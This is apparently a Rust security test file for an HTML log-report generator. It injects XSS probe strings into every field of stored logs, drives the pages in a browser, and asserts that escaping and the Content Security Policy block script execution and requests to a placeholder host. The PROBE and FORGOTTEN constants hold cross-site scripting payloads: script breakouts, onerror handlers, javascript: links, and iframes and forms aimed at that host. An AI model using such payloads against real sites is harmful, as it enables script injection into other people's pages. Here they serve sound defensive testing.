//! Logs with a probe in every text of every event: it has no effect on any page, nor in a browser with every control used.

use crate::browser::window;
use crate::regressions::oracle;
use crate::support::log::{Record, md5_of};
use crate::support::{Log, Report, Run, input};
use serde_json::Value;
use std::collections::BTreeMap;
use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::time::Duration;

/// Markup that calls an unknown function, loads an image or runs [`ACTED`] in any context: an element, an attribute, a
/// script, a style sheet or a comment.
const PROBE: &str = "-->\"'></style></title></script></textarea><script>probe4711()</script><script src=acted.js></script><script src=../acted.js></script>\
    <img src=probe4711 onerror=probe4711()>\
    <b onmouseover=probe4711() style='background:url(probe4711)'><a href=\"javascript:probe4711()\">";

/// A script for `acted.js` in a report, which shows that it ran.
pub const ACTED: &str = "document.documentElement.dataset.acted = 'yes'; document.title = 'acted'";

/// Logs that together have all kinds of events and pages.
const LOGS: [&str; 14] = [
    "02_train_mlp",
    "03_graph_breaks",
    "04_recompiles",
    "05_dynamic_shapes",
    "06_errors",
    "07_compiled_autograd",
    "08_cache_bypass",
    "09_provenance",
    "10_aoti",
    "11_export_draft",
    "12_ddp_2",
    "22_vllm_new",
    "23_dump_file",
    "25_guards",
];

/// Fields that decide the kind of a record; changing them would make its page disappear.
const KINDS: [&str; 6] = ["has_payload", "encoding", "ph", "type", "fail_type", "compile_id"];

/// Appends the probe to each text; addresses get the prefix `javascript:`.
fn probe(value: &mut Value, key: &str) {
    match value {
        Value::String(text) if key.contains("url") => *text = format!("javascript:probe4711()//{text}"),
        Value::String(text) if !KINDS.contains(&key) => text.push_str(PROBE),
        Value::Array(items) => items.iter_mut().for_each(|item| probe(item, key)),
        Value::Object(fields) => {
            fields.iter_mut().for_each(|(key, value)| probe(value, key));
            if !fields.is_empty() && fields.len() < 40 {
                fields.insert(PROBE.to_owned(), PROBE.into());
            }
        }
        _ => {}
    }
}

/// Probes the fields of the envelope and its event. Artifacts keep their names in every second log, because parsers go by
/// the name.
fn probe_envelope(envelope: &mut Value, names_too: bool) {
    let name = envelope["artifact"]["name"].as_str().map(str::to_owned);
    for (key, value) in envelope.as_object_mut().unwrap() {
        probe(value, key);
    }
    if let (Some(name), false) = (name, names_too) {
        envelope["artifact"]["name"] = name.into();
    }
}

/// Probes the payload: every text of JSON, or some lines of a text.
fn probe_payload(record: &mut Record, every: usize) {
    let text = record.text();
    let changed = match serde_json::from_slice::<Value>(&text) {
        Ok(mut json) => {
            probe(&mut json, "");
            json.to_string().into_bytes()
        }
        Err(_) => {
            let text = String::from_utf8_lossy(&text).into_owned();
            let probed = text.lines().enumerate().map(|(number, line)| match number % every {
                0 => format!("{line}{PROBE}"),
                1 => line.replacen("# ", &format!("# {PROBE}"), 1),
                2 => line.replacen('\'', &format!("'{PROBE}"), 1),
                _ => line.to_owned(),
            });
            probed.collect::<Vec<_>>().join("\n").into_bytes()
        }
    };
    let lines = changed.split(|byte| *byte == b'\n');
    record.payload = lines.map(|line| [b"\t", line].concat()).collect();
    record.edit(|envelope| envelope["has_payload"] = md5_of(&changed).into());
}

/// The report of a stored log with a probe in every text.
pub fn probed(name: &str, names_too: bool) -> Report {
    let mut log = Log::of(input(name));
    for record in &mut log.records {
        record.edit(|envelope| probe_envelope(envelope, names_too));
        if !record.payload.is_empty() {
            probe_payload(record, if names_too { 7 } else { 40 });
        }
    }
    Run::of_bytes("<img src=probe4711 onerror=probe4711()>.log", &log.bytes()).ok()
}

/// All files of a report.
fn files(report: &Report) -> oracle::Files {
    report.manifest().into_iter().map(|path| (path.clone(), report.bytes(&path))).collect()
}

#[test]
fn a_probe_in_every_text_of_every_event_has_no_effect_on_pages_and_links() {
    let mut shown = BTreeMap::new();
    for (at, name) in LOGS.iter().enumerate() {
        let report = probed(name, at % 3 == 0);
        let files = files(&report);
        assert_eq!(oracle::pages(&files), Ok(()), "{name}");
        for (path, page) in files.iter().filter(|(path, _)| path.ends_with(".html")) {
            if String::from_utf8_lossy(page).contains("probe4711") {
                let kind = path.rsplit('/').next().unwrap().to_owned();
                *shown.entry(kind).or_insert(0) += 1;
            }
        }
    }
    // The pages must contain the probe.
    for page in [
        "index.html",
        "compile.html",
        "graph_breaks.html",
        "recompilations.html",
        "shapes.html",
        "search.html",
    ] {
        assert!(
            shown.contains_key(page),
            "no {page} shows the probe: {:?}",
            shown.keys().collect::<Vec<_>>()
        );
    }
}

/// Uses every control of a page: opens folds, chooses each option, types into fields, presses buttons.
const USE_EVERYTHING: &str = "(async () => {
    const pause = () => new Promise(done => setTimeout(done));
    // The link to Perfetto opens another page in front of this one, which would then no longer be painted.
    window.open = () => null;
    const stay = link => link.addEventListener('click', event => event.preventDefault());
    document.querySelectorAll('a[href]').forEach(stay);
    document.querySelectorAll('form').forEach(form => form.addEventListener('submit', event => event.preventDefault()));
    for (const folded of document.querySelectorAll('details')) folded.open = true;
    await pause();
    for (const chooser of [...document.querySelectorAll('select')].slice(0, 20)) {
        for (let place = 0; place < Math.min(chooser.options.length, 6); place++) {
            chooser.selectedIndex = place;
            chooser.dispatchEvent(new Event('change', { bubbles: true }));
        }
    }
    for (const field of [...document.querySelectorAll('input')].slice(0, 20)) {
        if (field.type === 'checkbox' || field.type === 'radio') { field.click(); continue; }
        for (const text of ['probe', '<img src=probe4711 onerror=probe4711()>', '']) {
            field.value = text;
            field.dispatchEvent(new Event('input', { bubbles: true }));
            await pause();
        }
    }
    const pressed = [...document.querySelectorAll('button, summary, [role=button], [tabindex]')].slice(0, 60);
    for (const button of pressed) {
        button.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        button.click?.();
    }
    for (const element of [...document.querySelectorAll('main *')].slice(0, 400)) {
        element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    }
    await pause();
    return pressed.length;
})()";

#[test]
fn a_probe_has_no_effect_in_a_browser_with_every_control_used() {
    let Some(window) = window() else { return };
    let mut kinds = Vec::new();
    for (at, name) in
        ["09_provenance", "05_dynamic_shapes", "11_export_draft", "22_vllm_new"].iter().enumerate()
    {
        let report = probed(name, at % 2 == 0);
        for page in report.pages() {
            let kind =
                page.rsplit('/').next().unwrap().trim_end_matches(|c: char| !c.is_alphabetic()).to_owned();
            let kind: String = kind.chars().filter(|c| c.is_alphabetic() || *c == '_').take(14).collect();
            if kinds.contains(&kind) {
                continue;
            }
            kinds.push(kind);
            window.open(&report.folder.join(&page), "");
            window.value(USE_EVERYTHING);
            window.quiet(&format!("{name}: {page}"));
        }
    }
    assert!(kinds.len() > 12, "{kinds:?}");
}

/// Unescaped markup: script in an element, a file beside the page, an attribute, an address and a frame; an image, a style sheet, a form and a base
/// from elsewhere. No page may send a request to `HOST`.
const FORGOTTEN: &str = "<script>document.title = 'acted'</script>\
    <script src='http://HOST/acted.js'></script><script src='acted.js'></script>\
    <img src='http://HOST/acted.png' onerror=\"document.title = 'acted'\">\
    <a id=forgotten href=\"javascript:void(document.title = 'acted')\">x</a>\
    <iframe srcdoc=\"<script>top.document.title = 'acted'</script>\"></iframe>\
    <iframe src='http://HOST/acted.html'></iframe>\
    <object data='http://HOST/acted.swf'></object><embed src='http://HOST/acted.swf'>\
    <link rel=stylesheet href='http://HOST/acted.css'><style>body { background: url(http://HOST/a.png) }</style>\
    <base href='http://HOST/'>\
    <form id=posts method=post action='http://HOST/acted'><input name=text value=mine></form>\
    <svg><script>document.title = 'acted'</script><set onbegin=\"document.title = 'acted'\" attributeName=x></svg>";

/// The browser's requests to the server; it may connect ahead of a request that it then blocks.
fn asked(server: &TcpListener) -> String {
    let mut asked = String::new();
    while let Ok((mut connection, _)) = server.accept() {
        connection.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
        let mut request = [0; 200];
        let count = connection.read(&mut request).unwrap_or(0);
        asked.push_str(&String::from_utf8_lossy(&request[..count]));
    }
    asked
}

#[test]
fn a_missing_escape_on_any_page_is_stopped_by_its_policy() {
    let Some(window) = window() else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let planted = FORGOTTEN.replace("HOST", &server.local_addr().unwrap().to_string());
    let report = probed("09_provenance", false);
    let mut kinds = Vec::new();
    for page in report.pages() {
        let kind: String = page.rsplit('/').next().unwrap().chars().take(14).collect();
        if kinds.contains(&kind) {
            continue;
        }
        kinds.push(kind);
        let path = report.folder.join(&page);
        let text = fs::read_to_string(&path).unwrap();
        let (head, body) = text.split_once("<main").unwrap();
        fs::write(&path, format!("{head}{planted}<main{body}")).unwrap();
        fs::write(path.with_file_name("acted.js"), ACTED).unwrap();
        window.open(&path, "");
        window.value("document.getElementById('forgotten').click()");
        window.value("document.getElementById('posts').submit()");
        let wrong = window.take_wrong();
        assert_ne!(window.value("document.title"), "acted", "{page}");
        assert!(window.is_true("typeof tlparse === 'object'"), "{page}: its own scripts do not run");
        assert!(window.is_true("location.protocol === 'file:'"), "{page}: the form led away");
        // The browser reports blocked requests; the server sees those that are not blocked.
        assert_eq!(asked(&server), "", "{page}");
        assert!(wrong.iter().any(|wrong| wrong.contains("Content Security Policy")), "{page}: {wrong:?}");
    }
    assert!(kinds.len() > 5, "{kinds:?}");
}
